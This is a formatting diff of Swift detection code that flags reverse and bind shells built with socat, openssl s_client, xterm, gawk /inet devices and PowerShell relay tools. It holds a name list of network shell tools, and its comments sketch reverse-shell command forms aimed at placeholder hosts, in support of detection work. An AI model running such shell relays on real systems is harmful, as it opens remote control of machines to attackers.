@@ -3,7 +3,9 @@ import Bytes
 /// Tools that carry bytes between two ends, with a shell at one: socat, `openssl s_client`, awk's `/inet`, xterm sent to
 /// another display, and the named PowerShell clients.
 enum RelayMatcher {
-  private static let tools = NameTable(["socat", "socat.exe", "s_client", "xterm", "Invoke-ConPtyShell", "powercat", "Invoke-PowerShellTcp"])
+  private static let tools = NameTable([
+    "socat", "socat.exe", "s_client", "xterm", "Invoke-ConPtyShell", "powercat", "Invoke-PowerShellTcp",
+  ])
 
   static func matches(_ shell: ShellText) -> [ShellMatch] {
     var found: [ShellMatch] = []
@@ -36,7 +38,9 @@ enum RelayMatcher {
   private static func socat(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
     var words = Array(shell.commands[index].words.dropFirst(place + 1).prefix(32))
     var next = index
-    while next + 1 < shell.commands.count, words.count < 32, shell.commands[next].end == 0x22 || shell.commands[next].end == 0x27 {
+    while next + 1 < shell.commands.count, words.count < 32,
+      shell.commands[next].end == 0x22 || shell.commands[next].end == 0x27
+    {
       next += 1
       words += shell.commands[next].words.prefix(32)
     }
@@ -66,7 +70,8 @@ enum RelayMatcher {
     }
     guard runsShell, let far else { return nil }
     return ShellMatch(
-      technique: "socat", endpoint: far, isBind: isBind, transport: transport, place: shell.commands[index].range.lowerBound)
+      technique: "socat", endpoint: far, isBind: isBind, transport: transport,
+      place: shell.commands[index].range.lowerBound)
   }
 
   /// `sh -i <fifo | openssl s_client -connect host:port >fifo`; to look at a certificate needs no shell.
@@ -77,7 +82,9 @@ enum RelayMatcher {
     for (place, word) in command.words.enumerated() {
       let value = command.word(place + 1)
       if word == "-connect" {
-        if let colon = value.lastIndex(of: 0x3A) { endpoint = shell.endpoint(value.slice(0, colon), value.slice(colon + 1)) }
+        if let colon = value.lastIndex(of: 0x3A) {
+          endpoint = shell.endpoint(value.slice(0, colon), value.slice(colon + 1))
+        }
       } else if word == "-host" {
         endpoint.host = shell.endpoint(value, ByteView("1")).host
       } else if word == "-port" {
@@ -90,7 +97,8 @@ enum RelayMatcher {
   /// `xterm -display 203.0.113.66:1`: the terminal opens on another's screen. X listens on 6000 and up.
   private static func xterm(_ command: SimpleCommand, _ place: Int) -> ShellMatch? {
     let rest = command.words[(place + 1)...]
-    guard let flag = rest.firstIndex(where: { $0 == "-display" }), let (host, screen) = command.word(flag + 1).cut(0x3A),
+    guard let flag = rest.firstIndex(where: { $0 == "-display" }),
+      let (host, screen) = command.word(flag + 1).cut(0x3A),
       Endpoint.isPlainHost(host), !(host == "localhost"), let last = host.array.last, last >= 0x30, last <= 0x39
     else { return nil }
     let number = Int((screen.cut(0x2E)?.before ?? screen).integer ?? -1)
@@ -105,9 +113,12 @@ enum RelayMatcher {
     var isBind = false
     for (index, word) in rest.enumerated() {
       let next = index + 1 < rest.count ? rest[index + 1] : ByteView("")
-      if word.equalsIgnoringCase("-c") || word.equalsIgnoringCase("-IPAddress") || word.equalsIgnoringCase("-RemoteIp") {
+      if word.equalsIgnoringCase("-c") || word.equalsIgnoringCase("-IPAddress") || word.equalsIgnoringCase("-RemoteIp")
+      {
         endpoint.host = Endpoint.isHost(next) ? next.string : nil
-      } else if word.equalsIgnoringCase("-p") || word.equalsIgnoringCase("-Port") || word.equalsIgnoringCase("-RemotePort") {
+      } else if word.equalsIgnoringCase("-p") || word.equalsIgnoringCase("-Port")
+        || word.equalsIgnoringCase("-RemotePort")
+      {
         endpoint.port = Endpoint.port(next)
       } else if word.equalsIgnoringCase("-l") || word.equalsIgnoringCase("-Bind") {
         isBind = true
@@ -118,27 +129,34 @@ enum RelayMatcher {
     guard endpoint.port != nil else { return nil }
     let name = ShellWords.baseName(command.word(place))
     return ShellMatch(
-      technique: name.equalsIgnoringCase("Invoke-ConPtyShell") ? "conpty" : "powershell", endpoint: endpoint, isBind: isBind,
+      technique: name.equalsIgnoringCase("Invoke-ConPtyShell") ? "conpty" : "powershell", endpoint: endpoint,
+      isBind: isBind,
       place: command.range.lowerBound)
   }
 
   /// gawk: `s = "/inet/tcp/0/host/port"; s |& getline c; … c |& getline`. The near port is 0 for a client.
   private static func awk(_ text: ByteView) -> ShellMatch? {
-    for (device, transport) in [("/inet/tcp/", "tcp"), ("/inet/udp/", "udp"), ("/inet4/tcp/", "tcp")] as [(StaticString, String)] {
+    for (device, transport) in [("/inet/tcp/", "tcp"), ("/inet/udp/", "udp"), ("/inet4/tcp/", "tcp")]
+      as [(StaticString, String)]
+    {
       guard let place = text.firstIndex(of: ByteView(device)), text.contains("getline") else { continue }
       // The device is read from, and what is read is run: two co-processes or a pipe.
       guard text.contains("|&"), text.contains("while") || text.contains("system") else { continue }
       let parts = text.slice(place + ByteView(device).count, place + 300).split(0x2F, limit: 3)
       guard parts.count == 3 else { continue }
       if !(parts[0] == "0"), parts[1] == "0" {
-        return ShellMatch(technique: "awk", endpoint: Endpoint(host: nil, port: Endpoint.port(parts[0])), isBind: true, transport: transport, place: place)
+        return ShellMatch(
+          technique: "awk", endpoint: Endpoint(host: nil, port: Endpoint.port(parts[0])), isBind: true,
+          transport: transport, place: place)
       }
       let variables = Variables(text)
       let host = Endpoint.isHost(parts[1]) ? parts[1].string : nil
-      let port = Endpoint.port(parts[2]) ?? variables.first(named: ["port"]) { Endpoint.port($0) != nil }.flatMap(Int.init)
+      let port =
+        Endpoint.port(parts[2]) ?? variables.first(named: ["port"]) { Endpoint.port($0) != nil }.flatMap(Int.init)
       return ShellMatch(
         technique: "awk",
-        endpoint: Endpoint(host: host ?? variables.first(named: ["host", "ip"], where: Endpoint.isPlainHost), port: port),
+        endpoint: Endpoint(
+          host: host ?? variables.first(named: ["host", "ip"], where: Endpoint.isPlainHost), port: port),
         transport: transport, place: place)
     }
     return nil
